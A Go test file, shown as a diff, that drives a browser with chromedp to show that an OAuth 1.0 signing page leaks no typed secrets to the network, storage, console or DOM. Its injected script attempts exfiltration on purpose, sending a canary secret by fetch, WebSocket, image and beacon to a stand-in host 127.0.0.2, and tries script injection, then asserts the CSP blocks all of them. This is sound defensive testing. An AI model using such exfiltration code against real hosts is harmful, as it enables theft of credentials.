@@ -1,0 +1,207 @@
+//go:build !js
+
+package main
+
+import (
+	"context"
+	"strings"
+	"sync"
+	"testing"
+	"time"
+
+	"github.com/chromedp/cdproto/network"
+	"github.com/chromedp/cdproto/runtime"
+	"github.com/chromedp/chromedp"
+	"github.com/stretchr/testify/assert"
+	"github.com/stretchr/testify/require"
+)
+
+// Canary secrets: long, unique, and found nowhere else, so any copy of one
+// in a request, the console, storage or the DOM after Clear is a leak.
+const (
+	canaryConsumer = "CANARYconsumerSECRET4b1d9e0f77aa"
+	canaryToken    = "CANARYtokenSECRET93c5e2a8d6f1"
+)
+
+// netLog records every request the page's target makes, as CDP reports it.
+type netLog struct {
+	mu       sync.Mutex
+	requests []string
+	blocked  []string
+}
+
+func (l *netLog) snapshot() (requests, blocked []string) {
+	l.mu.Lock()
+	defer l.mu.Unlock()
+	return append([]string(nil), l.requests...), append([]string(nil), l.blocked...)
+}
+
+func watchNetwork(ctx context.Context, t *testing.T) *netLog {
+	t.Helper()
+	l := &netLog{}
+	sent := chromedp.Events(ctx, network.RequestWillBeSent)
+	failed := chromedp.Events(ctx, network.LoadingFailed)
+	go func() {
+		for ev, err := range sent {
+			if err != nil {
+				return
+			}
+			l.mu.Lock()
+			l.requests = append(l.requests, ev.Request.URL)
+			l.mu.Unlock()
+		}
+	}()
+	go func() {
+		for ev, err := range failed {
+			if err != nil {
+				return
+			}
+			l.mu.Lock()
+			l.blocked = append(l.blocked, string(ev.BlockedReason))
+			l.mu.Unlock()
+		}
+	}()
+	_, err := chromedp.Call(ctx, network.Enable, network.EnableParams{})
+	require.NoError(t, err)
+	return l
+}
+
+// TestPrivacy is the proof behind the warning banner's claims: after the
+// page has loaded, typing secrets, signing, verifying, diagnosing and
+// importing makes no network request at all; a fetch, a beacon, an image
+// and a WebSocket aimed elsewhere are blocked by the CSP; nothing is in
+// storage or cookies; no secret reaches the console; after Clear no secret
+// is left in the DOM.
+func TestPrivacy(t *testing.T) {
+	requireBrowser(t)
+	base := startServer(t)
+	ctx := newBrowser(t)
+
+	var consoleMu sync.Mutex
+	var console []string
+	consoleEvents := chromedp.Events(ctx, runtime.ConsoleAPICalled)
+	go func() {
+		for ev, err := range consoleEvents {
+			if err != nil {
+				return
+			}
+			consoleMu.Lock()
+			for _, arg := range ev.Args {
+				console = append(console, string(arg.Value)+" "+arg.Description)
+			}
+			consoleMu.Unlock()
+		}
+	}()
+	require.NoError(t, chromedp.Do(ctx, chromedp.Navigate("about:blank")))
+	netlog := watchNetwork(ctx, t)
+
+	require.NoError(t, chromedp.Do(ctx,
+		chromedp.Navigate(base),
+		chromedp.WaitReady(chromedp.CSS(`[data-testid="status"][data-ready]`)),
+	))
+	loaded, _ := netlog.snapshot()
+	for _, u := range loaded {
+		assert.True(t, strings.HasPrefix(u, base), "the page loaded something from elsewhere: %s", u)
+	}
+	before := len(loaded)
+
+	// Type secrets and let the page sign with them.
+	waitSigned := `document.querySelector('[data-testid="status"]').dataset.signCount`
+	count, err := chromedp.Run(ctx, chromedp.Evaluate[string](waitSigned))
+	require.NoError(t, err)
+	for id, secret := range map[string]string{"input-consumerSecret": canaryConsumer, "input-tokenSecret": canaryToken} {
+		_, err := chromedp.Run(ctx, chromedp.Evaluate[bool](`(document.querySelector('[data-testid="`+id+`"]').value = '') === ''`))
+		require.NoError(t, err)
+		require.NoError(t, chromedp.Do(ctx, chromedp.SendKeys(testid(id), secret)))
+	}
+	_, err = chromedp.Run(ctx, chromedp.Poll[bool](waitSigned+` !== `+jsString(count)+` && document.querySelector('[data-testid="signature"]').textContent !== `+jsString(xSignature),
+		chromedp.WithPollingTimeout(10*time.Second)))
+	require.NoError(t, err, "the page did not sign with the typed secrets")
+
+	// Every other entry point, through the JS API the page exposes.
+	used, err := chromedp.Run(ctx, chromedp.Evaluate[bool](`(() => {
+		const req = { method: 'POST', url: 'https://api.x.com/1.1/statuses/update.json?include_entities=true',
+			consumerKey: 'xvz1evFS4wEEPTGEFPHBog', consumerSecret: `+jsString(canaryConsumer)+`,
+			token: '370773112-GmHxMAgYyLbNEtIKZeRNFsMKPR9EyMZeS9weJAEb', tokenSecret: `+jsString(canaryToken)+`,
+			nonce: 'n', timestamp: '1', signature: 'Il5C7oPhfqV+nSqa3WoH4988Ll0=' };
+		const signed = oauth1.sign(req);
+		const checks = [signed, oauth1.verify(req), oauth1.diagnose(req), oauth1.parse(signed.curl)];
+		return checks.every(r => r.ok === true);
+	})()`))
+	require.NoError(t, err)
+	assert.True(t, used, "sign, verify, diagnose and parse all answered")
+
+	after, _ := netlog.snapshot()
+	assert.Equal(t, before, len(after), "requests after load: %v", after[before:])
+
+	// Exfiltration attempts from inside the page are refused by the CSP.
+	attempts, err := chromedp.Run(ctx, chromedp.Evaluate[map[string]string](`(async () => {
+		const out = {};
+		const violations = [];
+		document.addEventListener('securitypolicyviolation', e => violations.push(e.effectiveDirective));
+		const s = encodeURIComponent(`+jsString(canaryConsumer)+`);
+		try { await fetch('http://127.0.0.2:9/?s=' + s); out.fetch = 'sent' } catch (e) { out.fetch = 'blocked' }
+		try { await fetch('/?s=' + s); out.fetchSelf = 'sent' } catch (e) { out.fetchSelf = 'blocked' }
+		navigator.sendBeacon('/beacon?s=' + s, s); // returns true; the CSP blocks it after
+		out.ws = 'pending';
+		try {
+			const ws = new WebSocket('ws://127.0.0.2:9/?s=' + s);
+			ws.onopen = () => { out.ws = 'opened' };
+			ws.onerror = () => { out.ws = 'blocked' };
+		} catch (e) { out.ws = 'blocked' }
+		const img = new Image(); img.src = 'http://127.0.0.2:9/?s=' + s; document.body.append(img);
+		try { document.body.innerHTML = '<b>x</b>'; out.innerHTML = 'allowed' } catch (e) { out.innerHTML = 'threw ' + e.name }
+		try {
+			const script = document.createElement('script');
+			script.textContent = 'window.__injected = 1';
+			document.body.append(script);
+		} catch (e) { /* Trusted Types refuse the text before the CSP sees it */ }
+		out.inlineScript = window.__injected === undefined ? 'blocked' : 'ran';
+		await new Promise(r => setTimeout(r, 300));
+		img.remove();
+		out.violations = [...new Set(violations)].sort().join(',');
+		return out;
+	})()`, chromedp.EvalAwaitPromise))
+	require.NoError(t, err)
+	assert.Equal(t, "blocked", attempts["fetch"])
+	assert.Equal(t, "blocked", attempts["fetchSelf"], "connect-src 'none' blocks even our own origin")
+	assert.Equal(t, "blocked", attempts["ws"])
+	assert.Equal(t, "threw TypeError", attempts["innerHTML"], "Trusted Types")
+	assert.Equal(t, "blocked", attempts["inlineScript"])
+	for _, d := range []string{"connect-src", "img-src", "require-trusted-types-for"} {
+		assert.Contains(t, attempts["violations"], d)
+	}
+	final, blockedReasons := netlog.snapshot()
+	t.Logf("after load: %d requests %v, failures %v; attempts %v", len(final)-before, final[before:], blockedReasons, attempts)
+	// CDP may list an attempt the CSP then refuses; every one it lists
+	// must have failed, refused by the CSP.
+	assert.Len(t, blockedReasons, len(final)-before, "every request after load failed: %v", final[before:])
+	for _, r := range blockedReasons {
+		assert.Equal(t, "csp", r, "a failed request was refused by the CSP, not by the network")
+	}
+
+	// Nothing stored.
+	storage, err := chromedp.Run(ctx, chromedp.Evaluate[string](`(async () => [
+		localStorage.length, sessionStorage.length, document.cookie.length,
+		(await indexedDB.databases()).length, (await caches.keys()).length].join(','))()`, chromedp.EvalAwaitPromise))
+	require.NoError(t, err)
+	assert.Equal(t, "0,0,0,0,0", storage, "localStorage, sessionStorage, cookies, IndexedDB, Cache Storage")
+
+	// Nothing secret on the console.
+	consoleMu.Lock()
+	for _, line := range console {
+		assert.NotContains(t, line, canaryConsumer)
+		assert.NotContains(t, line, canaryToken)
+	}
+	consoleMu.Unlock()
+
+	// After Clear, no secret anywhere in the DOM or in any input.
+	require.NoError(t, chromedp.Do(ctx, chromedp.Click(testid("clear"))))
+	left, err := chromedp.Run(ctx, chromedp.Evaluate[string](`(() => {
+		const values = [...document.querySelectorAll('input, textarea, select, output')].map(e => e.value ?? '');
+		return document.documentElement.outerHTML + '\n' + document.body.innerText + '\n' + values.join('\n');
+	})()`))
+	require.NoError(t, err)
+	assert.NotContains(t, left, canaryConsumer)
+	assert.NotContains(t, left, canaryToken)
+}
